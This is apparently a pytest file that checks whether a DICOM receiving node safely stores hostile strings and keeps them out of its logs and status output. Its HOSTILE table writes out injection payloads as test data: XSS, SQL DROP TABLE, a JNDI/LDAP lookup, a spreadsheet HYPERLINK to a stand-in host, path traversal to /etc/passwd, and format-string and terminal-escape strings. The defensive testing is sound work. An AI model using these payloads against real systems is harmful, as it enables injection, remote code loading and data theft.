"""Hazards D06 and P18: hostile strings in every attribute. Kept as sent; nowhere else, and nothing stumbles."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Iterator

import pytest
from pydicom.datadict import DicomDictionary

from tests.dicom_node.receiving.instances import CR
from tests.dicom_node.receiving.pydicom_reading import pydicom_reads_whole
from tests.dicom_node.receiving.raw_sender import EXPLICIT
from tests.foreign_programs.programs import wait_until
from tests.hazards.attacked_node import SUCCESS, AttackedNode
from tests.hazards.raw_instance import RawInstance, element

MARK = b"QQCANARYQQ"
HOSTILE = {
    "control characters": b"\r\n\t\x1b[2J\x07\x00" + MARK,
    "a forged log line": b'\n{"event": "association_accepted", "calling": "' + MARK + b'"}\n',
    "HTML": b"<script>alert('" + MARK + b"')</script><img src=x onerror=alert(1)>",
    "a spreadsheet formula": b'=HYPERLINK("http://x/?' + MARK + b'")',
    "SQL": b"'; DROP TABLE instances; --" + MARK,
    "a format": b"%s%n%x{0.__class__}{{7*7}}${jndi:ldap://x}" + MARK,
    "a path": b"../../../../" + MARK + b"/\x00/etc/passwd",
    "invalid UTF-8": b"\xff\xfe\xc0\xaf\xed\xa0\x80" + MARK,
    "a broken escape sequence": b"\x1b$B\x1b(J\x1b$)C\xff" + MARK,
    "right to left": "‮﷽\u0000".encode() + MARK,
    "many values": b"\\".join([MARK] * 2000),
    "backslashes": b"\\" * 5000 + MARK,
    "carets": b"^" * 5000 + b"=" * 500 + MARK,
    "very long": MARK + b"A" * 60_000,
    "a number too large": b"1e999999999" + MARK,
    "not a number": b"nan\\inf\\-0\\--1\\0x10" + MARK,
}
_TEXT_VRS = {"AE", "AS", "CS", "DA", "DS", "DT", "IS", "LO", "LT", "PN", "SH", "ST", "TM", "UC", "UR", "UT"}
_CHARACTER_SET = 0x00080005


def every_text_attribute() -> Iterator[tuple[int, str]]:
    """Tag and VR of the Standard's text attributes, as a data set may have them."""
    for tag, (vr, _, _, retired, _) in sorted(DicomDictionary.items()):
        if vr in _TEXT_VRS and not retired and 0x0008 <= tag >> 16 < 0x0050 and tag != _CHARACTER_SET:
            yield tag, vr


@pytest.fixture(scope="module")
def hostile_studies() -> dict[str, RawInstance]:
    made = {}
    for name, value in HOSTILE.items():
        instance = RawInstance()
        for tag, vr in every_text_attribute():
            if len(value) < 5000 or vr in ("LO", "PN", "LT", "UT"):
                said = value.replace(MARK, b"CODE") if vr == "CS" else value  # a code is no secret, reasons repeat it
                instance.put_bytes(tag, element(tag, vr, said + b" " * (len(said) % 2)))
        made[name] = instance
    return made


@pytest.mark.parametrize("what", HOSTILE)
def test_d06_hostile_strings_are_kept_as_sent(
    node: AttackedNode, hostile_studies: dict[str, RawInstance], what: str
) -> None:
    instance = hostile_studies[what]
    with node.sender() as sender:
        sender.associate()
        assert sender.store(CR, instance.uid, instance.data_set).status == SUCCESS
        sender.end()


@pytest.mark.parametrize("what", HOSTILE)
def test_d06_hostile_character_sets_are_refused_or_kept(node: AttackedNode, what: str) -> None:
    """A reader that looks the name up must not stumble over what was acknowledged."""
    value = HOSTILE[what][:1500] + b" " * (len(HOSTILE[what][:1500]) % 2)
    instance = RawInstance().put_element(_CHARACTER_SET, "CS", value).put("PatientName", "A^B")
    with node.sender() as sender:
        sender.associate()
        answer = sender.store(CR, instance.uid, instance.data_set)
        assert answer.status in (SUCCESS, 0xC000)
        if answer.status == SUCCESS:
            assert pydicom_reads_whole(instance.data_set, EXPLICIT)
        else:
            assert "Specific Character Set" in answer.comment
            assert answer.elements[0x0901] == bytes.fromhex("08000500")
        sender.end()


def test_d06_their_studies_come_to_rest(node: AttackedNode, hostile_studies: dict[str, RawInstance]) -> None:
    def states() -> set[str]:
        rows = {row.sop_instance_uid: row.study_instance_uid for row in node.rows}
        assert {instance.uid for instance in hostile_studies.values()} <= set(rows)
        known = node.study_states
        return {known[study] for study in rows.values() if study in known}

    wait_until("closed and routed", lambda: not states() & {"receiving", "complete"})
    assert states() <= {"no_system", "scoring", "not_evaluable"}


def test_p18_nothing_of_them_is_in_logs_and_status(node: AttackedNode) -> None:
    mark = MARK.decode()
    assert mark not in node.log
    for line in node.log.splitlines():
        assert line.startswith("listening as ") or json.loads(line)["event"]
    command = [sys.executable, "-m", "scoring.cli", "status", "--json", "--config", str(node.folder / "node.toml")]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)
    assert mark not in done.stdout + done.stderr
    assert "\x1b" not in done.stdout
